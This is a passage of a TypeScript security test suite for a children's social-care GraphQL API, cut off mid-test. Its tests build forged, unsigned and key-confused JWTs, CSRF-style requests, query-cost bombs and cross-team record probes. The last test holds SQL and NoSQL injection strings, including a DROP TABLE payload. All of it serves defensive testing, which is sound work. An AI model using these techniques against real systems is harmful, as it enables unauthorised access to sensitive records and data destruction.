/**
 * The security suite: every attack in ../shared/engineering/SECURITY.md, "Bad input and attacks to test", sent to a
 * running Haven over HTTP (a real `listen` on an ephemeral port). Each test asserts the safe answer (status, code, no
 * data, nothing of the server's internals) and, from row counts of every table taken before and after, that nothing
 * was written but the audit rows of the denial (and, where the attack is a read that is partly allowed, the read's own
 * audit rows, named exactly). "Logged where it matters": the denial's audit row, or for refused tokens (no account)
 * the server's log line under the request id.
 *
 * SECURITY.md item                                   → test (describe › it)
 * Forged/expired/`alg:none` token                    → tokens › forged / expired / alg:none token
 *   (and wrong-audience, disabled account)           → tokens › wrong audience token; disabled account with a live token
 * mutation over GET                                  → transport › mutation over GET
 * cross-site `text/plain` POST                       → transport › cross-site text/plain POST
 * batched array                                      → transport › batched array
 * malformed JSON                                     → transport › malformed JSON
 * 10 MB body                                         → transport › 10 MB body
 * 5,000 aliases                                      → document limits › 5,000 aliases
 * deep nesting                                       → document limits › deep nesting
 * cost bomb of nested lists                          → document limits › cost bomb of nested lists
 * huge `first`                                       → document limits › huge first
 * misspelt field in production                       → production › misspelt field in production
 * introspection in production                        → production › introspection in production
 * another team's child by id                         → record scope › another team's child by id
 *   … by alias enumeration                           → record scope › another team's child by alias enumeration
 *   … through a family                               → record scope › another team's child through a family
 *   … through a plan                                 → record scope › another team's child through a plan
 * a provider reading a family not referred to it     → providers › a provider reading a family not referred to it
 * a provider reading a field outside its agreement   → providers › a provider reading a field outside its agreement
 * a restricted child found by name search            → record scope › a restricted child found by name search
 * a mutation on another team's child                 → record scope › a mutation on another team's child
 * client-supplied approver or status fields          → input › client-supplied approver or status fields
 * a 5 MB note                                        → input › a 5 MB note; a note over the field's max length
 * SQL or JSON operators in arguments                 → input › SQL and JSON operators in search / ids / text
 * `<script>` and `=HYPERLINK(…)` reaching a CSV      → input › <script> and =HYPERLINK in text that reaches the Annex A CSV
 * a stale version on update                          → concurrency › a stale version on update
 * a replayed submission                              → providers › a replayed provider submission
 * Issue 6 item 1 (production errors)                 → production › unexpected error …; expected errors keep their code;
 *                                                      transport › GET never runs a mutation, even with a preflight header
 */
import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { SignJWT } from 'jose';
import { ErrorCode } from '../src/shared/errors';
import { RoleCode } from '../src/modules/identity/roles';
import { loadOrCreateDevKey, signDevToken } from '../src/modules/identity/auth';
import { testConfig } from './api';
import { EarlyHelpSuite, useEarlyHelpSuite } from './early-help-factories';
import { testDatabaseUrl } from './setup/database';
import {
  CapturedServer, http, HttpAnswer, LEAK, LocalIdp, rowChanges, rowCounts, startCapturedServer, startLocalIdp,
} from './security-http';

const suite: EarlyHelpSuite = useEarlyHelpSuite();
let server: CapturedServer;

beforeAll(async () => {
  server = await startCapturedServer();
});
afterAll(async () => {
  await server?.stop();
});

/** Every `extensions.code` a client was sent in this file (checked against the stable list at the end). */
const codesSeen = new Set<string>();

type Who = { id: string; email: string };

/** POST /graphql as an account (a development token) or anonymously, to `url` (the test server by default). */
async function gql(query: string, variables?: Record<string, unknown>, as?: Who | null, url = server.url): Promise<HttpAnswer> {
  const token = as ? await suite.api.token(as) : undefined;
  return send(`${url}/graphql`, { body: { query, variables }, token });
}

async function send(url: string, opts: Parameters<typeof http>[1]): Promise<HttpAnswer> {
  const res = await http(url, opts);
  for (const e of res.body?.errors ?? []) if (e?.extensions?.code) codesSeen.add(e.extensions.code);
  return res;
}

const codes = (r: HttpAnswer) => (r.body?.errors ?? []).map((e: any) => e.extensions?.code);

/** The answer is a refusal with `code` that tells nothing of the server's internals. */
function expectSafe(r: HttpAnswer, status: number, code: string) {
  expect(r.status).toBe(status);
  expect(r.headers.get('content-type')).toMatch(/^application\/(graphql-response\+)?json/);
  expect(codes(r)[0]).toBe(code);
  expect(r.text).not.toMatch(LEAK);
}

/** No data at all (refused before execution) or only nulls (refused in execution). */
function expectNoData(r: HttpAnswer) {
  const data = r.body?.data;
  if (data === undefined || data === null) return;
  for (const value of Object.values(data)) expect(value).toBeNull();
}

const snapshot = () => rowCounts(suite.api.db);

/** Nothing changed but the audit rows of refusals (result DENIED): exactly `denials` of them (`action` → rows). */
async function expectOnlyDenials(before: Record<string, number>, denials: Record<string, number>) {
  await expectOnlyAudit(before, Object.fromEntries(Object.entries(denials).map(([action, n]) => [`${action}:DENIED`, n])));
}

/**
 * No record changed; the only rows added are audit rows, exactly `rows` of them (`action:result` → rows). A read that
 * is partly allowed writes its own read audit rows (no audit, no data) next to the denial's.
 */
async function expectOnlyAudit(before: Record<string, number>, rows: Record<string, number>) {
  const expected: Record<string, number> = {};
  for (const [key, n] of Object.entries(rows)) expected[`audit_entry:${key}`] = n;
  const total = Object.values(rows).reduce((a, b) => a + b, 0);
  if (total) expected.audit_entry = total;
  expect(rowChanges(before, await snapshot())).toEqual(expected);
}

/** The denial rows of `action`, newest last. */
const deniedRows = async (action: string) =>
  (await suite.given.auditRows(action)).filter((r) => r.result === 'DENIED') as { actor_id: string; child_id: string | null; result: string }[];

const CREATE_CHILD = `mutation($input: CreateChildInput!) { createChild(input: $input) { child { id } } }`;
const NEW_CHILD = { input: { firstName: 'Attack', lastName: 'Test', dateOfBirth: '2015-01-01', sex: 'F' } };
const CHILD = `query($id: ID!) { child(id: $id) { id firstName lastName } }`;
const VISIT = `mutation($input: RecordVisitInput!) { recordVisit(input: $input) { id note } }`;
const visitInput = (childId: string, note = 'Saw the child at home; she showed me her room and talked about school.') => ({
  childId, visitedOn: '2026-11-20', type: 'HOME', seen: true, seenAlone: true, present: ['Mother'], note,
});

// ------------------------------------------------------------------------------------------------------------------

describe('tokens', () => {
  /** A refused token: 401 UNAUTHENTICATED, no data, nothing written, a warning logged under the request id (never the token). */
  async function expectTokenRefused(token: string) {
    const before = await snapshot();
    const r = await send(`${server.url}/graphql`, { body: { query: CREATE_CHILD, variables: NEW_CHILD }, token });
    expectSafe(r, 401, 'UNAUTHENTICATED');
    expect(r.body.data ?? null).toBeNull();
    await expectOnlyDenials(before, {});
    const requestId = r.headers.get('x-request-id');
    expect(requestId).toBeTruthy();
    expect(server.logs.filter((l) => l.requestId === requestId && l.msg === 'refused a bearer token')).toHaveLength(1);
    expect(server.logText()).not.toContain(token.split('.')[1] || token);
  }

  const devKey = () => loadOrCreateDevKey(testConfig().dataDir);

  it('forged / expired / alg:none token', async () => {
    const good = await suite.api.token(suite.c.frontDoor);
    const [h, p, s] = good.split('.');
    const claims = JSON.parse(Buffer.from(p, 'base64url').toString());
    // The front door's signature on a payload naming the service manager.
    const forged = `${h}.${Buffer.from(JSON.stringify({ ...claims, sub: suite.c.serviceManager.id })).toString('base64url')}.${s}`;
    const unsigned = `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${p}.`;
    const expired = await signDevToken(await devKey(), 'haven', suite.c.frontDoor, Math.floor(Date.now() / 1000) - 60);
    // Key confusion: HS256 with the public key as the shared secret.
    const confused = await new SignJWT({ email: suite.c.frontDoor.email })
      .setProtectedHeader({ alg: 'HS256', kid: (await devKey()).publicJwk.kid })
      .setSubject(suite.c.frontDoor.id).setIssuer('haven-dev').setAudience('haven').setIssuedAt().setExpirationTime('5m')
      .sign(new TextEncoder().encode(JSON.stringify((await devKey()).publicJwk)));
    for (const token of [forged, unsigned, expired, confused, 'not-a-token']) await expectTokenRefused(token);
    // Control: the genuine token is served.
    const ok = await send(`${server.url}/graphql`, { body: { query: '{ me { id } }' }, token: good });
    expect(ok.body.data.me.id).toBe(suite.c.frontDoor.id);
  });

  it('wrong audience token', async () => {
    await expectTokenRefused(await signDevToken(await devKey(), 'haven', suite.c.frontDoor, '5m', 'another-service'));
  });

  it('disabled account with a live token', async () => {
    const disabled = await suite.given.account(RoleCode.FRONT_DOOR, { teamId: suite.c.frontDoorTeam.id, disabled: true });
    await expectTokenRefused(await suite.api.token(disabled));
    // Disabling a working account stops its live token at once.
    const token = await suite.api.token(suite.c.frontDoor);
    expect((await send(`${server.url}/graphql`, { body: { query: '{ me { id } }' }, token })).status).toBe(200);
    await suite.api.db.query(`UPDATE account SET disabled = true WHERE id = $1`, [suite.c.frontDoor.id]);
    await expectTokenRefused(token);
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('transport', () => {
  const mutationQuery = (extra: Record<string, string> = {}) =>
    new URLSearchParams({ query: CREATE_CHILD, variables: JSON.stringify(NEW_CHILD), ...extra }).toString();

  it('mutation over GET', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    // A plain GET (as a link or an <img> would send) is stopped by CSRF prevention before anything is parsed.
    const plain = await send(`${server.url}/graphql?${mutationQuery()}`, { method: 'GET', token });
    expectSafe(plain, 400, 'BAD_REQUEST');
    expect(plain.body.errors[0].message).toMatch(/Cross-Site Request Forgery/);
    expectNoData(plain);
    await expectOnlyDenials(before, {});
  });

  it('GET never runs a mutation, even with a preflight header (Apollo-Require-Preflight) or a JSON content type', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    const preflights: Record<string, string>[] = [
      { 'apollo-require-preflight': 'true' }, { 'content-type': 'application/json' }, { 'x-apollo-operation-name': 'x' },
    ];
    for (const headers of preflights) {
      const r = await send(`${server.url}/graphql?${mutationQuery()}`, { method: 'GET', token, headers });
      expectSafe(r, 405, 'BAD_REQUEST');
      expect(r.body.errors[0].message).toMatch(/only support query operations/);
      expectNoData(r);
    }
    await expectOnlyDenials(before, {});
    // Control: the same request by POST creates the child.
    const post = await send(`${server.url}/graphql`, { body: { query: CREATE_CHILD, variables: NEW_CHILD }, token });
    expect(post.body.errors).toBeUndefined();
    expect(await suite.given.count('child')).toBe(1);
  });

  it('cross-site text/plain POST', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    // A simple cross-site request (no preflight): text/plain carrying a GraphQL body, as an HTML form could send.
    for (const contentType of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const r = await send(`${server.url}/graphql`, {
        body: JSON.stringify({ query: CREATE_CHILD, variables: NEW_CHILD }),
        token,
        headers: { 'content-type': contentType },
      });
      expectSafe(r, 400, 'BAD_REQUEST');
      expect(r.body.errors[0].message).toMatch(/Cross-Site Request Forgery/);
      expectNoData(r);
    }
    await expectOnlyDenials(before, {});
    // Control: the same body as application/json (which a cross-site page cannot send without a preflight) is served.
    const json = await send(`${server.url}/graphql`, { body: { query: CREATE_CHILD, variables: NEW_CHILD }, token });
    expect(json.body.errors).toBeUndefined();
  });

  it('batched array', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    const r = await send(`${server.url}/graphql`, {
      body: [{ query: CREATE_CHILD, variables: NEW_CHILD }, { query: CREATE_CHILD, variables: NEW_CHILD }],
      token,
    });
    expectSafe(r, 400, 'BAD_REQUEST');
    expect(Array.isArray(r.body)).toBe(false);
    expectNoData(r);
    await expectOnlyDenials(before, {});
  });

  it('malformed JSON', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    for (const body of ['{"query": "mutation {', '{"query": }', '\u0000\u0001', '[{"query"']) {
      const r = await send(`${server.url}/graphql`, { body, token, headers: { 'content-type': 'application/json' } });
      expectSafe(r, 400, 'BAD_REQUEST');
      expect(r.body.errors[0].extensions.requestId).toBe(r.headers.get('x-request-id'));
    }
    await expectOnlyDenials(before, {});
  });

  it('10 MB body', async () => {
    const token = await suite.api.token(suite.c.frontDoor);
    const before = await snapshot();
    const r = await send(`${server.url}/graphql`, {
      body: { query: CREATE_CHILD, variables: { ...NEW_CHILD, pad: 'x'.repeat(10 * 1024 * 1024) } },
      token,
    });
    expectSafe(r, 413, 'BAD_REQUEST');
    expectNoData(r);
    await expectOnlyDenials(before, {});
  });
});

// ------------------------------------------------------------------------------------------------------------------

// Child → families → members → child …: every level a real field, so only the depth rule can refuse it.
const nest = (levels: number, leaf = 'id') => {
  let inner = leaf;
  for (let i = 0; i < levels; i++) inner = `families { members { child { ${inner} } } }`;
  return inner;
};

describe('document limits (refused with 400 before anything runs)', () => {
  async function expectRefused(query: string, status: number, code: string) {
    const before = await snapshot();
    const r = await gql(query, NEW_CHILD, suite.c.frontDoor);
    expectSafe(r, status, code);
    expect(r.body.data).toBeUndefined();
    await expectOnlyDenials(before, {});
    return r;
  }

  it('5,000 aliases', async () => {
    const creates = Array.from({ length: 5000 }, (_, i) => `a${i}: createChild(input: $input) { child { id } }`).join(' ');
    await expectRefused(`mutation($input: CreateChildInput!) { ${creates} }`, 400, 'GRAPHQL_PARSE_FAILED');
    // Within the token limit, 25 aliases of a query are refused by the alias limit.
    const reads = Array.from({ length: 25 }, (_, i) => `a${i}: me { id }`).join(' ');
    await expectRefused(`{ ${reads} }`, 400, 'GRAPHQL_VALIDATION_FAILED');
  });

  it('deep nesting', async () => {
    await expectRefused(`mutation($input: CreateChildInput!) { createChild(input: $input) { child { ${nest(5)} } } }`, 400, 'GRAPHQL_VALIDATION_FAILED');
  });

  it('cost bomb of nested lists', async () => {
    // Five caseloads of 100 children with families and members: within depth and aliases, far over the cost limit.
    const caseload = (i: number) =>
      `c${i}: myCaseload(first: 100) { edges { node { child { id firstName families { id members { relationship child { id firstName } } } } } } }`;
    await expectRefused(`{ ${Array.from({ length: 5 }, (_, i) => caseload(i)).join(' ')} }`, 400, 'GRAPHQL_VALIDATION_FAILED');
  });

  it('huge first', async () => {
    await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id });
    for (const first of [101, 100000, 2147483647, -1]) {
      const before = await snapshot();
      const r = await gql(`query($first: Int!) { myCaseload(first: $first) { totalCount edges { node { childId } } } }`, { first }, suite.c.socialWorker);
      expectSafe(r, 200, 'BAD_USER_INPUT');
      expectNoData(r);
      await expectOnlyDenials(before, {});
    }
    // Control: 100 is served.
    const ok = await gql(`{ myCaseload(first: 100) { totalCount } }`, undefined, suite.c.socialWorker);
    expect(ok.body.errors).toBeUndefined();
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('record scope', () => {
  it("another team's child by id", async () => {
    const theirs = await suite.given.child({ teamId: suite.c.teamB.id, firstName: 'Theirs' });
    const missing = randomUUID();
    const before = await snapshot();
    const forbidden = await gql(CHILD, { id: theirs.id }, suite.c.socialWorker);
    const absent = await gql(CHILD, { id: missing }, suite.c.socialWorker);
    expectSafe(forbidden, 200, 'NOT_FOUND');
    expectNoData(forbidden);
    expect(forbidden.text).not.toContain('Theirs');
    // Indistinguishable from a child that does not exist.
    expect(forbidden.body).toEqual(absent.body);
    await expectOnlyDenials(before, { 'child.viewed': 2 });
    expect((await deniedRows('child.viewed')).map((r) => r.child_id)).toEqual([theirs.id, missing]);
  });

  it("another team's child by alias enumeration", async () => {
    const theirs = await Promise.all([1, 2, 3].map(() => suite.given.child({ teamId: suite.c.teamB.id, firstName: 'Theirs' })));
    const guesses = [...theirs.map((t) => t.id), ...Array.from({ length: 12 }, () => randomUUID())];
    const query = `query { ${guesses.map((id, i) => `g${i}: child(id: "${id}") { id firstName }`).join(' ')} }`;
    const before = await snapshot();
    const r = await gql(query, undefined, suite.c.socialWorker);
    expect(r.status).toBe(200);
    expect(r.text).not.toMatch(LEAK);
    expect(r.text).not.toContain('Theirs');
    expectNoData(r);
    // One NOT_FOUND per alias, each identical but for its path: a real child cannot be told from a guess.
    expect(r.body.errors).toHaveLength(guesses.length);
    const shapes = new Set(r.body.errors.map((e: any) => JSON.stringify({ ...e, path: undefined, locations: undefined })));
    expect([...shapes]).toEqual([JSON.stringify({ message: 'Not found', extensions: { code: 'NOT_FOUND' } })]);
    await expectOnlyDenials(before, { 'child.viewed': guesses.length });
  });

  it("another team's child through a family", async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, firstName: 'Mine' });
    const theirs = await suite.given.child({ teamId: suite.c.teamB.id, firstName: 'Theirs' });
    const shared = await suite.given.family([mine.id, theirs.id]);
    const theirFamily = await suite.given.family([theirs.id]);
    // Their household on its own: NOT_FOUND, audited.
    let before = await snapshot();
    const family = await gql(`query($id: ID!) { family(id: $id) { id name members { child { id firstName } } } }`, { id: theirFamily.id },
      suite.c.socialWorker);
    expectSafe(family, 200, 'NOT_FOUND');
    expectNoData(family);
    await expectOnlyDenials(before, { 'family.viewed': 1 });
    // A household shared with my child: the other team's child is a member whose record is not given.
    before = await snapshot();
    const r = await gql(`query($id: ID!) { child(id: $id) { id families { id members { relationship childId child { id firstName } } } } }`,
      { id: mine.id }, suite.c.socialWorker);
    expect(r.body.errors).toBeUndefined();
    const members = r.body.data.child.families.find((f: any) => f.id === shared.id).members;
    expect(members.filter((m: any) => m.child).map((m: any) => m.child.id)).toEqual([mine.id]);
    expect(r.text).not.toContain('Theirs');
    // Only my child and our household were read (and audited as read); nothing of theirs.
    await expectOnlyAudit(before, { 'child.viewed:ALLOWED': 1 });
    const viewed = (await suite.given.auditRows('child.viewed')).filter((row) => row.result === 'ALLOWED').map((row) => row.child_id);
    expect(viewed).not.toContain(theirs.id);
  });

  it("another team's child through a plan", async () => {
    const theirs = await suite.given.child({ teamId: suite.c.teamB.id });
    const [plan] = await suite.api.db.query(
      `INSERT INTO plan (child_id, type, status, start_date, contingency, family_summary)
       VALUES ($1, 'CHILD_IN_NEED', 'ACTIVE', '2026-10-01', 'Legal planning meeting if no progress', 'What we will do together') RETURNING id`,
      [theirs.id],
    );
    const PLAN = `query($id: ID!) { plan(id: $id) { id childId contingency familySummary outcomes { needToChange } } }`;
    const before = await snapshot();
    const forbidden = await gql(PLAN, { id: plan.id }, suite.c.socialWorker);
    const absent = await gql(PLAN, { id: randomUUID() }, suite.c.socialWorker);
    expectSafe(forbidden, 200, 'NOT_FOUND');
    expectNoData(forbidden);
    expect(forbidden.text).not.toContain('Legal planning');
    expect(forbidden.body).toEqual(absent.body);
    await expectOnlyDenials(before, { 'plan.viewed': 2 });
    // Control: the other team's worker reads it.
    expect((await gql(PLAN, { id: plan.id }, suite.c.otherSocialWorker)).body.data.plan.id).toBe(plan.id);
  });

  it('a restricted child found by name search', async () => {
    const hidden = await suite.given.child({ teamId: suite.c.teamA.id, firstName: 'Zebedee', lastName: 'Quill', restrictedTo: [suite.c.serviceManager.id] });
    const open = await suite.given.child({ teamId: suite.c.teamB.id, firstName: 'Zebedee', lastName: 'Quill' });
    const SEARCH = `query($name: String!) { children(search: { name: $name }) { totalCount edges { node { id firstName lastName inScope } } } }`;
    for (const who of [suite.c.socialWorker, suite.c.teamManager, suite.c.frontDoor, suite.c.otherSocialWorker]) {
      const before = await snapshot();
      const r = await gql(SEARCH, { name: 'Zebedee Quill' }, who);
      expect(r.body.errors).toBeUndefined();
      // The unrestricted namesake is found (the search works); the restricted child is not, not even counted.
      expect(r.body.data.children.edges.map((e: any) => e.node.id)).toEqual([open.id]);
      expect(r.body.data.children.totalCount).toBe(1);
      expect(r.text).not.toContain(hidden.id);
      expect(r.text).not.toContain(hidden.laChildId);
      // The search itself is audited (and nothing else written).
      await expectOnlyAudit(before, { 'child.searched:ALLOWED': 1 });
    }
    // Control: the person named on the restriction finds it.
    const named = await gql(SEARCH, { name: 'Zebedee Quill' }, suite.c.serviceManager);
    expect(named.body.data.children.edges.map((e: any) => e.node.id).sort()).toEqual([hidden.id, open.id].sort());
  });

  it("a mutation on another team's child", async () => {
    const theirs = await suite.given.child({ teamId: suite.c.teamB.id, firstName: 'Theirs' });
    const missing = randomUUID();
    const before = await snapshot();
    const visit = await gql(VISIT, { input: visitInput(theirs.id) }, suite.c.socialWorker);
    const visitMissing = await gql(VISIT, { input: visitInput(missing) }, suite.c.socialWorker);
    expectSafe(visit, 200, 'NOT_FOUND');
    expectNoData(visit);
    expect(visit.body).toEqual(visitMissing.body);
    const UPDATE = `mutation($input: UpdateChildInput!) { updateChild(input: $input) { id firstName } }`;
    const update = await gql(UPDATE, { input: { id: theirs.id, expectedVersion: theirs.version, firstName: 'Changed' } }, suite.c.socialWorker);
    const updateMissing = await gql(UPDATE, { input: { id: missing, expectedVersion: 1, firstName: 'Changed' } }, suite.c.socialWorker);
    expectSafe(update, 200, 'NOT_FOUND');
    expect(update.body).toEqual(updateMissing.body);
    await expectOnlyDenials(before, { 'child.changeDenied': 4 });
    const [row] = await suite.api.db.query(`SELECT first_name, version FROM child WHERE id = $1`, [theirs.id]);
    expect(row).toEqual({ first_name: 'Theirs', version: theirs.version });
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('providers', () => {
  async function families() {
    const s = suite;
    const mine = await s.given.child({ firstName: 'Mine' });
    const theirs = await s.given.child({ firstName: 'Theirs' });
    const myFamily = await s.given.family([mine.id]);
    const theirFamily = await s.given.family([theirs.id]);
    const myEpisode = await s.eh.episode({
      childIds: [mine.id], familyId: myFamily.id, status: 'IN_WORK', providerId: s.c.provider.id, contractId: s.p.contractOne.id,
      leadId: s.c.providerPractitioner.id, requestedOn: '2026-11-02',
    });
    const theirEpisode = await s.eh.episode({
      childIds: [theirs.id], familyId: theirFamily.id, status: 'IN_WORK', providerId: s.p.providerTwo.id, contractId: s.p.contractTwo.id,
      leadId: s.p.twoPractitioner.id, requestedOn: '2026-11-02',
    });
    return { mine, theirs, myFamily, theirFamily, myEpisode, theirEpisode };
  }

  it('a provider reading a family not referred to it', async () => {
    const f = await families();
    const who = suite.c.providerPractitioner;
    const reads: [string, string, string][] = [
      [`query($id: ID!) { family(id: $id) { id name members { firstName child { id firstName } } } }`, f.theirFamily.id, 'family.viewed'],
      [`query($id: ID!) { earlyHelpEpisode(id: $id) { id reason family { name } children { firstName } } }`, f.theirEpisode.id, 'earlyHelpEpisode.viewed'],
      [CHILD, f.theirs.id, 'child.viewed'],
    ];
    for (const [query, id, action] of reads) {
      const before = await snapshot();
      const r = await gql(query, { id }, who);
      expectSafe(r, 200, 'NOT_FOUND');
      expectNoData(r);
      expect(r.text).not.toContain('Theirs');
      expect(r.text).not.toContain('Household');
      await expectOnlyDenials(before, { [action]: 1 });
    }
    // Control: its own family is served.
    const own = await gql(`query($id: ID!) { family(id: $id) { id } }`, { id: f.myFamily.id }, who);
    expect(own.body.data.family.id).toBe(f.myFamily.id);
  });

  it('a provider reading a field outside its agreement', async () => {
    const f = await families();
    // Provider One's agreement no longer names the child's NHS number.
    await suite.api.db.query(
      `UPDATE data_sharing_agreement SET visible_fields = array_remove(visible_fields, 'Child.nhsNumber') WHERE provider_id = $1`,
      [suite.c.provider.id],
    );
    const [{ nhs_number: nhs }] = await suite.api.db.query(`SELECT nhs_number FROM child WHERE id = $1`, [f.mine.id]);
    const before = await snapshot();
    const r = await gql(`query($id: ID!) { earlyHelpEpisode(id: $id) { id children { id firstName nhsNumber } } }`, { id: f.myEpisode.id },
      suite.c.providerPractitioner);
    expect(r.status).toBe(200);
    expect(r.text).not.toMatch(LEAK);
    expect(codes(r)).toEqual(['FORBIDDEN']);
    expect(r.body.errors[0].path).toEqual(['earlyHelpEpisode', 'children', 0, 'nhsNumber']);
    expect(r.body.data.earlyHelpEpisode.children[0]).toEqual({ id: f.mine.id, firstName: 'Mine', nhsNumber: null });
    expect(r.text).not.toContain(nhs);
    // The refusal is audited with the field's name; the rest of the read is audited as read.
    await expectOnlyAudit(before, { 'access.denied:DENIED': 1, 'earlyHelpEpisode.viewed:ALLOWED': 1, 'child.viewed:ALLOWED': 1 });
    const [denied] = await suite.api.db.query(`SELECT entity, actor_id FROM audit_entry WHERE action = 'access.denied'`);
    expect(denied).toEqual({ entity: 'Child.nhsNumber', actor_id: suite.c.providerPractitioner.id });
    // A statutory field no agreement can name: FORBIDDEN too.
    const statutory = await gql(`query($id: ID!) { earlyHelpEpisode(id: $id) { id children { id referrals { id reason } } } }`,
      { id: f.myEpisode.id }, suite.c.providerPractitioner);
    expect(codes(statutory)).toContain('FORBIDDEN');
  });

  it('a replayed provider submission', async () => {
    const f = await families();
    const SUBMIT = `mutation($input: SubmitEarlyHelpAssessmentInput!) { submitEarlyHelpAssessment(input: $input) {
      replayed assessment { id version analysis } } }`;
    const input = {
      episodeId: f.myEpisode.id, idempotencyKey: randomUUID(), reason: 'Attendance has fallen and mother asked for help',
      needs: [{ need: 'EDUCATION', description: 'Attendance 78%' }], strengths: 'Close family', livedExperience: 'Late most mornings',
      childVoice: 'I want to see my friends', analysis: 'Routines first', startedOn: '2026-11-04', completedOn: '2026-11-20',
    };
    const first = await gql(SUBMIT, { input }, suite.c.providerPractitioner);
    expect(first.body.errors).toBeUndefined();
    expect(first.body.data.submitEarlyHelpAssessment.replayed).toBe(false);
    // The response was lost; the provider's system sends the same submission again.
    let before = await snapshot();
    const again = await gql(SUBMIT, { input }, suite.c.providerPractitioner);
    expect(again.status).toBe(200);
    expect(again.body.data.submitEarlyHelpAssessment).toEqual({ ...first.body.data.submitEarlyHelpAssessment, replayed: true });
    // No second record: only the audit row of the replay.
    await expectOnlyAudit(before, { 'submission.replayed:ALLOWED': 1 });
    expect(await suite.given.count('early_help_assessment')).toBe(1);
    // The same key with different content: refused, nothing written.
    before = await snapshot();
    const changed = await gql(SUBMIT, { input: { ...input, analysis: 'Something else entirely' } }, suite.c.providerPractitioner);
    expectSafe(changed, 200, 'IDEMPOTENCY_KEY_REUSED');
    expectNoData(changed);
    await expectOnlyDenials(before, {});
    const [row] = await suite.api.db.query(`SELECT analysis, version FROM early_help_assessment`);
    expect(row).toEqual({ analysis: 'Routines first', version: 1 });
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('input', () => {
  it('client-supplied approver or status fields', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id });
    const [plan] = await suite.api.db.query(
      `INSERT INTO plan (child_id, type, status, start_date, contingency, family_summary)
       VALUES ($1, 'CHILD_IN_NEED', 'ACTIVE', '2026-10-01', 'Legal planning meeting if no progress', 'What we will do together') RETURNING id, version`,
      [mine.id],
    );
    // [input type, selection, input with a field the server sets itself, that field, who sends it]
    const attempts: [string, string, Record<string, unknown>, string, Who][] = [
      ['RecordVisitInput', 'recordVisit(input: $input) { id }', { ...visitInput(mine.id), recordedById: suite.c.teamManager.id }, 'recordedById',
        suite.c.socialWorker],
      ['RecordVisitInput', 'recordVisit(input: $input) { id }', { ...visitInput(mine.id), createdAt: '2020-01-01T00:00:00Z' }, 'createdAt',
        suite.c.socialWorker],
      ['AuthoriseAssessmentInput', 'authoriseAssessment(input: $input) { id }',
        { id: randomUUID(), expectedVersion: 1, authorisedById: suite.c.serviceManager.id }, 'authorisedById', suite.c.teamManager],
      ['UpdatePlanInput', 'updatePlan(input: $input) { id }', {
        id: plan.id, expectedVersion: plan.version, status: 'ENDED',
        content: { outcomes: [], actions: [], contingency: 'x'.repeat(30), familySummary: 'y'.repeat(30) },
      }, 'status', suite.c.socialWorker],
      ['DecideReferralInput', 'decideReferral(input: $input) { id }',
        { id: randomUUID(), expectedVersion: 1, decision: 'NO_FURTHER_ACTION', reason: 'Nothing more to do here', decidedById: suite.c.teamManager.id },
        'decidedById', suite.c.frontDoor],
      ['CreateChildInput', 'createChild(input: $input) { child { id } }', { ...NEW_CHILD.input, createdById: suite.c.teamManager.id },
        'createdById', suite.c.frontDoor],
    ];
    const before = await snapshot();
    for (const [type, selection, input, field, who] of attempts) {
      // As variables: refused by coercion (the input type has no such field).
      const asVariables = await gql(`mutation($input: ${type}!) { ${selection} }`, { input }, who);
      expectSafe(asVariables, 400, 'BAD_USER_INPUT');
      expect(asVariables.body.data).toBeUndefined();
      expect(asVariables.body.errors[0].message).toContain(`"${field}" is not defined by type "${type}"`);
      // Written into the document: refused by validation.
      const literal = JSON.stringify(input).replace(/"([A-Za-z]+)":/g, '$1:').replace(/"(ENDED|NO_FURTHER_ACTION|HOME|F)"/g, '$1');
      const inline = await gql(`mutation { ${selection.replace('$input', literal)} }`, undefined, who);
      expectSafe(inline, 400, 'GRAPHQL_VALIDATION_FAILED');
      expect(inline.body.data).toBeUndefined();
      expect(inline.body.errors.map((e: { message: string }) => e.message)).toEqual([
        expect.stringContaining(`"${field}" is not defined by type "${type}"`),
      ]);
    }
    await expectOnlyDenials(before, {});
  });

  it('a 5 MB note (rejected by the body limit)', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id });
    const before = await snapshot();
    const r = await gql(VISIT, { input: visitInput(mine.id, 'n'.repeat(5 * 1024 * 1024)) }, suite.c.socialWorker);
    expectSafe(r, 413, 'BAD_REQUEST');
    expectNoData(r);
    await expectOnlyDenials(before, {});
  });

  it("a note over the field's max length but under 1 MB (BAD_USER_INPUT naming the field)", async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id });
    const before = await snapshot();
    const r = await gql(VISIT, { input: visitInput(mine.id, 'n'.repeat(20_001)) }, suite.c.socialWorker);
    expectSafe(r, 200, 'BAD_USER_INPUT');
    expectNoData(r);
    expect(r.body.errors[0].extensions.fields.map((f: { field: string }) => f.field)).toEqual(['note']);
    await expectOnlyDenials(before, {});
    // Control: at the limit it is recorded.
    const ok = await gql(VISIT, { input: visitInput(mine.id, 'n'.repeat(20_000)) }, suite.c.socialWorker);
    expect(ok.body.errors).toBeUndefined();
  });

  it('SQL and JSON operators in search / ids / text, treated as data', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id, firstName: 'Robert', lastName: 'Tables' });
    const nasty = ["' OR 1=1 --", '{"$gt":""}', "x'); DROP TABLE child;--", '%%', '_%', '\\%'];
    const SEARCH = `query($s: ChildSearchInput!) { children(search: $s) { totalCount edges { node { id } } } }`;
    let before = await snapshot();
    for (const name of nasty) {
      const r = await gql(SEARCH, { s: { name } }, suite.c.frontDoor);
      expect(r.body.errors).toBeUndefined();
